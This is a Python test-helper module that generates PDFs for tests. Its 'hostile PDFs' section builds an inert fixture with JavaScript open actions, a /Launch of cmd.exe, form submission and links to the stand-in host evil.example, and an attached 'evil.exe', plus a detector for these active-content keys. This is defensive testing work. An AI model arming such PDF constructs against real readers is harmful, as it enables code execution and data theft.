"""PDFs for tests, made with reportlab: pages of text, or a page that is only a picture; and
reading a pack's bookmarks and index.

The same arguments always give the same bytes (reportlab's invariant mode leaves out the
creation time and the random document id)."""

from __future__ import annotations

import io
import re
from collections.abc import Iterable, Sequence

from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    IndirectObject,
    NameObject,
    PdfObject,
    TextStringObject,
)
from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.lib.utils import ImageReader
from reportlab.pdfgen import canvas


def text_pdf(
    pages: Iterable[Sequence[str]],
    *,
    encrypt: str | StandardEncryption | None = None,
    left: int = 72,
    top: int = 760,
    leading: int = 16,
) -> bytes:
    """One page for each list of lines, written from the top down."""
    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer, encrypt=encrypt, invariant=True)
    for lines in pages:
        for number, line in enumerate(lines):
            pdf.drawString(left, top - number * leading, line)
        pdf.showPage()
    pdf.save()
    return buffer.getvalue()


def scanned_pdf(
    *,
    picture_size: tuple[int, int],
    dark_rows: Iterable[int],
    dark_columns: range,
    placed: tuple[int, int, int, int],
) -> bytes:
    """A page that is only a picture, as a scanner or phone camera produces: no text layer.
    The white picture has black lines along `dark_rows`; `placed` is (x, y, width, height)."""
    picture = Image.new("RGB", picture_size, "white")
    for y in dark_rows:
        for x in dark_columns:
            picture.putpixel((x, y), (0, 0, 0))
    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer, invariant=True)
    x, y, width, height = placed
    pdf.drawImage(ImageReader(picture), x, y, width=width, height=height)
    pdf.showPage()
    pdf.save()
    return buffer.getvalue()


def outline_pages(reader: PdfReader) -> list[tuple[str, int]]:
    """(title, 1-based page) for each top-level bookmark."""
    return [(item.title, reader.get_destination_page_number(item) + 1) for item in reader.outline]


def words(reader: PdfReader, pages: Iterable[int]) -> str:
    """The text of these (0-based) pages, each page's whitespace squeezed to single spaces."""
    return " ".join(" ".join(reader.pages[i].extract_text().split()) for i in pages)


def printed_index(reader: PdfReader, titles: Iterable[str]) -> dict[str, int]:
    """The page number the pack's index prints in each title's row: after the title and its
    date, if it has one. A long title wraps in its cell; extraction joins the pieces with a
    space. The index is on the pages between the cover and the first bookmarked part."""
    first_part = min(page for _, page in outline_pages(reader))
    text = words(reader, range(1, first_part - 1))
    assert "Index" in text
    numbers = {}
    for title in titles:
        row = re.search(re.escape(title) + r" (?:\d{1,2} [A-Z][a-z]+ \d{4} )?(\d+)\b", text)
        assert row, f"{title!r} is not in the index: {text}"
        numbers[title] = int(row.group(1))
    return numbers


# -- hostile PDFs: active content, and pages pypdf reads but cannot number -----------------

ACTIVE_KEYS = ("/JS", "/JavaScript", "/Launch", "/URI", "/SubmitForm", "/OpenAction", "/AA")
ACTIVE_KEYS += ("/EmbeddedFiles", "/XFA", "/FileAttachment")


def _javascript(code: str) -> DictionaryObject:
    return DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(code)}
    )


def active_pdf(label: str = "A page with scripts") -> bytes:
    """A one-page PDF that acts when opened: JavaScript on opening the document and the page,
    links that run JavaScript, launch a program, submit a form or open an address, a form
    field with a script and XFA, an attached file (as an annotation and in the name tree)."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(text_pdf([[label]]))))
    page = writer.pages[0]
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _javascript("app.alert(1)")})

    def annotation(subtype: str, **entries: PdfObject) -> IndirectObject:
        rect = ArrayObject([FloatObject(v) for v in (10, 10, 200, 50)])
        made = DictionaryObject(
            {NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(subtype)}
        )
        made[NameObject("/Rect")] = rect
        made.update({NameObject(f"/{key}"): value for key, value in entries.items()})
        return writer._add_object(made)

    def action(kind: str, **entries: PdfObject) -> DictionaryObject:
        made = DictionaryObject({NameObject("/S"): NameObject(kind)})
        made.update({NameObject(f"/{key}"): value for key, value in entries.items()})
        return made

    field = annotation(
        "/Widget",
        AA=DictionaryObject({NameObject("/E"): _javascript("app.alert(2)")}),
        T=TextStringObject("evil"),
        FT=NameObject("/Tx"),
    )
    page[NameObject("/Annots")] = ArrayObject(
        [
            annotation("/Link", A=action("/URI", URI=TextStringObject("http://evil.example/"))),
            annotation("/Link", A=_javascript("app.launchURL('http://evil.example/')")),
            annotation("/Link", A=action("/Launch", F=TextStringObject("cmd.exe"))),
            annotation("/Link", A=action("/SubmitForm", F=TextStringObject("http://evil.example"))),
            field,
            annotation("/FileAttachment", FS=TextStringObject("evil.exe")),
            annotation("/Square", A=_javascript("app.alert(3)")),
        ]
    )
    root = writer.root_object
    root[NameObject("/OpenAction")] = _javascript("app.alert(4)")
    root[NameObject("/Names")] = DictionaryObject(
        {
            NameObject("/JavaScript"): DictionaryObject(
                {
                    NameObject("/Names"): ArrayObject(
                        [TextStringObject("x"), writer._add_object(_javascript("app.alert(5)"))]
                    )
                }
            )
        }
    )
    writer.add_attachment("evil.exe", b"MZ")
    root[NameObject("/AcroForm")] = DictionaryObject(
        {
            NameObject("/Fields"): ArrayObject([field]),
            NameObject("/XFA"): TextStringObject("<xdp:xdp/>"),
        }
    )
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def active_content(pdf: bytes) -> list[str]:
    """Where in ``pdf``, from its catalogue down, anything in ACTIVE_KEYS is found."""
    found: list[str] = []
    seen: set[int] = set()

    def walk(node: object, path: str) -> None:
        if isinstance(node, IndirectObject):
            if node.idnum in seen:
                return
            seen.add(node.idnum)
            node = node.get_object()
        if isinstance(node, DictionaryObject):
            for key, value in node.items():
                if key in ACTIVE_KEYS or value in ACTIVE_KEYS:
                    found.append(f"{path}{key} {value}"[:120])
                if key != "/Parent":
                    walk(value, f"{path}{key}")
        elif isinstance(node, ArrayObject):
            for number, value in enumerate(node):
                walk(value, f"{path}[{number}]")

    walk(PdfReader(io.BytesIO(pdf)).trailer["/Root"], "")
    return found


def odd_page_pdf(key: str, value: PdfObject, *, in_resources: bool = False) -> bytes:
    """A one-page PDF that pypdf opens and merges, with one entry of its page set to junk."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(text_pdf([["An odd page"]]))))
    page = writer.pages[0]
    target = page["/Resources"].get_object() if in_resources else page
    target[NameObject(key)] = value
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()
